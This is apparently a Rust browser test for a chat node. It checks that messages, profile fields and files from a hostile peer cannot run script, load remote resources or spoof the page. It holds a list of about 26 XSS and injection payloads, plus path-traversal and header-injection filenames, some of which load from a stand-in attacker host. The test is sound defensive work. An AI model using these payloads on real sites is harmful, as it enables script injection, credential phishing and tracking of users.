//! A node that means harm: what it sends and what it tells of its user is shown in the browser of whoever it was sent to, and does nothing
//! there.

use serde_json::{Value, json};

use super::browser::Screen;
use super::hostile::unharmed;
use super::person::Person;
use super::support::{Answer, FakeServer, Habits, OldNode, TestNode, file, message};
use super::town::Town;

/// Each would set `owned`, open a dialog, or call `ELSEWHERE`, in a page that trusted it.
const ATTACKS: [&str; 26] = [
    "<script>owned = 1; alert('script')</script><script src=ELSEWHERE/x.js></script>",
    "<img src=x onerror=\"owned = 1\"><body onload=\"owned = 1\"><p onmouseover=\"owned = 1\">hover</p>",
    "<input autofocus onfocus=\"owned = 1\"><details open ontoggle=\"owned = 1\"><summary>open</summary></details>",
    "[a](javascript:owned=1) [b](JaVaScRiPt:owned=1) [c](&#106;avascript:owned=1) [d](java\u{9}script:owned=1) <javascript:owned=1>",
    "[ref][1]\n\n[1]: javascript:owned=1 \"title\" onclick=\"owned = 1\"",
    "<a href=\"javascript:owned=1\">raw</a> <a href=\" javascript:owned=1\">space</a> <a href=\"vbscript:owned=1\">old</a>",
    "<svg onload=\"owned = 1\"><script>owned = 1</script><image href=ELSEWHERE/svg.png /></svg>",
    "<svg><a xlink:href=\"javascript:owned=1\"><text y=20>svg</text></a><use href=\"ELSEWHERE/x.svg#x\"/></svg>",
    "<math href=\"javascript:owned=1\">math</math><maction actiontype=statusline xlink:href=javascript:owned=1>m</maction>",
    "![svg](data:image/svg+xml,<svg%20onload=owned=1>) [data](data:text/html,<script>owned=1</script>)",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+\">data</a><iframe src=\"data:text/html,<script>owned=1</script>\"></iframe>",
    "<object data=\"ELSEWHERE/x.swf\"></object><embed src=\"ELSEWHERE/x.swf\"><applet code=x></applet>",
    "<style>body { background: url(ELSEWHERE/style.png) } * { display: none }</style><link rel=stylesheet href=ELSEWHERE/x.css>",
    "<p style=\"background: url(ELSEWHERE/p.png); position: fixed; inset: 0\">style</p><b class=\"banner danger\" id=main>class</b>",
    "@import url(ELSEWHERE/import.css); </style><style>@font-face { font-family: x; src: url(ELSEWHERE/x.woff) }",
    "![pixel](ELSEWHERE/pixel.png) ![pixel](ELSEWHERE/pixel.png \"title\") ![pixel][p]\n\n[p]: ELSEWHERE/ref.png",
    "<img src=ELSEWHERE/img.png srcset=\"ELSEWHERE/set.png 2x\"> <picture><source srcset=ELSEWHERE/source.png></picture>",
    "<video src=ELSEWHERE/film.webm autoplay poster=ELSEWHERE/poster.png></video><audio src=ELSEWHERE/sound.ogg autoplay></audio>",
    "<table background=ELSEWHERE/table.png><tr><td background=ELSEWHERE/cell.png>table</td></tr></table>",
    "<base href=ELSEWHERE/><meta http-equiv=refresh content=\"0;url=ELSEWHERE/\">",
    "<form action=ELSEWHERE/ id=f><input name=password></form><button form=f formaction=javascript:owned=1>Log in again</button>",
    "<link rel=prefetch href=ELSEWHERE/prefetch><link rel=dns-prefetch href=//elsewhere.test><link rel=preconnect href=ELSEWHERE>",
    "`<script>owned=1</script>` ```\n</code></pre><script>owned=1</script>\n```",
    "<noscript><p title=\"</noscript><img src=x onerror=owned=1>\"></noscript><template><script>owned=1</script></template>",
    "{{ owned = 1 }} ${owned = 1} <%= owned = 1 %> {% raw %}<!--#exec cmd=x--> <?php owned ?> ]]>",
    "\u{202e}gnp.erutcip\u{202c} \u{200b} Z\u{351}\u{36b}\u{343}\u{363}\u{35b} \u{feff}",
];

/// Nothing of theirs in the page can run, look like a part of it, or load anything.
const HARMLESS: &str = "!window.owned
    && [...document.images].every((image) => image.currentSrc === '' || new URL(image.currentSrc).origin === location.origin)
    && [...document.querySelectorAll('main a[href]')].every((a) => /^(https?|mailto|blob):/.test(a.href))
    && !document.querySelector('main :is(iframe, object, embed, form[action*=elsewhere], style, script, link, base, meta)')
    && ![...document.querySelectorAll('main *')].some((element) => [...element.attributes].some((attribute) =>
         attribute.name.startsWith('on') || (attribute.name === 'style' && attribute.value.includes('url'))))
    && document.querySelectorAll('#main').length === 1
    && document.documentElement.scrollWidth <= innerWidth";

async fn send(node: &TestNode, body: &Value, call: &str) {
    assert_eq!(node.peer_call(call, body).await.text, "0: Success");
}

#[actix_web::test]
async fn a_hostile_node_reaches_nothing_in_the_browser() {
    let elsewhere = FakeServer::start(|_| Answer::text("owned = 1")).await;
    let attack = |text: &str| text.replace("ELSEWHERE", &elsewhere.url());
    let town = Town::of(["ana"]).await;
    let ana = Person::logs_in(&town, "ana", Screen::Desk).await;
    let name = attack("<script>owned = 1</script><img src=ELSEWHERE/name.png onerror=owned=1>");
    let profile = json!({
        "fullname": name, "position": attack(ATTACKS[13]), "location": attack(ATTACKS[3]),
        // Longer than what is kept of it.
        "description": format!("{}{}", attack(&ATTACKS[..12].join("\n")), "\u{e9}".repeat(4000)),
        "picture": "http://elsewhere.test/pixel.png",
    });
    let cleos = OldNode::with(Habits { profile, ..Habits::default() }).await;
    town.report("cleo", cleos.address()).await;
    ana.go("/people").await;
    ana.read(".person-row[data-username='cleo']", "<script>owned = 1</script>").await;

    let node = town.node_of("ana");
    let mut stamp = 1_497_225_143.0;
    for text in ATTACKS {
        for markdown in [1, 0] {
            stamp += 1.0;
            let mut body = message("cleo", "ana", &attack(text), stamp);
            body["markdown"] = json!(markdown);
            send(&node, &body, "/receiveMessage").await;
        }
    }
    for markdown in [1, 0] {
        stamp += 1.0;
        // One word, without a place to break it.
        let mut body = message("cleo", "ana", &"W\u{e9}".repeat(2000), stamp);
        body["markdown"] = json!(markdown);
        send(&node, &body, "/receiveMessage").await;
    }
    let page = attack("<script src=ELSEWHERE/x.js></script><svg xmlns='http://www.w3.org/2000/svg' onload='owned=1'/>");
    for (filename, kind) in [
        ("../../etc/x", "text/html"),
        ("con.txt", "text/plain"),
        ("picture.svg", "image/svg+xml"),
        ("picture.png", "image/png"),
        ("film.mp4", "video/mp4"),
        ("paper.pdf", "application/pdf"),
        ("<img src=x onerror=owned=1>.html", "text/html\" onload=\"owned=1"),
        ("cat\u{202e}gpj.exe", "application/octet-stream"),
    ] {
        stamp += 1.0;
        send(&node, &file("cleo", "ana", filename, kind, page.as_bytes(), stamp), "/receiveFile").await;
    }
    send(&node, &message("cleo", "ana", "Have you seen all that?", stamp + 1.0), "/receiveMessage").await;

    ana.open_conversation("cleo").await;
    ana.read(".message .plain", "Have you seen all that?").await;
    ana.read(".message .file-card", "con.txt").await;
    ana.read(".message .file-card", "catgpj.exe").await;
    assert_eq!(ana.evaluate("document.querySelector('main').innerText.includes('etc/x')").await, false);
    is_harmless(&ana).await;
    // And those further up, which are drawn as they come into sight.
    ana.evaluate("document.querySelector('#log-scroll').scrollTo(0, 0)").await;
    ana.read(".message .plain", "owned = 1; alert('script')").await;
    is_harmless(&ana).await;
    for path in ["/people/cleo", "/people", "/chats"] {
        ana.go(path).await;
        ana.read("main", "<script>owned = 1</script>").await;
        is_harmless(&ana).await;
    }
    assert_eq!(elsewhere.calls().len(), 0, "somebody elsewhere was called");
    ana.leave().await;
    town.stop().await;
}

async fn is_harmless(person: &Person) {
    unharmed(person).await;
    assert_eq!(person.evaluate(HARMLESS).await, true, "on {}", person.evaluate("location.pathname").await);
}
